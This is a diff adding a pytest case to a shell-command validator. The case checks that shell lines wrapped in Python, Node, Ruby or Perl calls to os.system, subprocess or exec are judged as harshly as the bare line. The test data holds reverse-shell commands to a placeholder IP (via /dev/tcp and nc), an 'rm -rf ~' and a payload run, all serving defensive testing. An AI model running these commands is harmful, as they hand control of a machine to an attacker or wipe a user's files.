@@ -6,6 +6,7 @@ look-alikes that must stay as they are. Written before the changes that make the
 from __future__ import annotations
 
 import itertools
+import json
 import shlex
 
 import pytest
@@ -472,6 +473,32 @@ def test_code_after_a_cluster_of_flags_is_the_interpreters_code(
     validator: Validator, clustered: str, plain: str, code: str
 ) -> None:
     at_least(validator, clustered.format(q=shlex.quote(code)), plain.format(q=shlex.quote(code)))
+
+
+# A line a program hands to a shell is judged as the line, also when it starts with a shell: `bash -i` alone is an
+# interactive shell, `bash -i >& /dev/tcp/…` is what the rest of the line makes of it.
+SHELL_LINES = [
+    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+    "sh -i 2>&1 | nc 203.0.113.7 4444",
+    "bash -c 'rm -rf ~'",
+    "/bin/sh ./payload.sh > /dev/null",
+]
+PROGRAMS_RUNNING = [
+    ("python3", "import os; os.system({line})"),
+    ("python3", "import subprocess; subprocess.run({line}, shell=True)"),
+    ("node", "require('child_process').exec({line})"),
+    ("ruby", "system({line})"),
+    ("perl", "system({line});"),
+]
+
+
+@pytest.mark.parametrize("line", SHELL_LINES)
+@pytest.mark.parametrize(("program", "code"), PROGRAMS_RUNNING, ids=["os.system", "subprocess", "node", "ruby", "perl"])
+def test_a_line_a_program_hands_to_a_shell_is_judged_as_the_line(
+    validator: Validator, program: str, code: str, line: str
+) -> None:
+    source = code.format(line=json.dumps(line))  # a double-quoted string in each of these languages
+    at_least(validator, f"{program} -e {shlex.quote(source)}".replace("python3 -e", "python3 -c"), line)
 
 
 # -- a download lands somewhere even when the command does not name it ---------------------------------------------
